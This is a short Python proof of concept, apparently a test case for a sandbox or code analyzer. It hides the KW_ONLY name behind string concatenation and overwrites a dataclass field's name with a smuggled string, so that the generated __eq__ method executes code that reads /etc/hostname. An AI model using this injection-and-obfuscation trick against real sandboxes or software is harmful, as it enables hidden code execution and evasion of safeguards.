# family: from dataclasses import * binds the KW_ONLY marker without the word in the source; a computed string annotation then names it
from dataclasses import *

Slot = "KW_" + "ONLY"


@dataclass
class Holder:
    a: int = 0
    b: Slot = field(default=0, init=False, repr=False)


@dataclass
class Carrier:
    a: int = 0
    b: int = Holder.b


def run():
    held = Holder.b
    held.name = "b,print(open('/etc/hostname').read())"

    @dataclass(init=False, repr=False)
    class Sub(Carrier):
        c: int = 0

    return Sub() == Sub()


run()
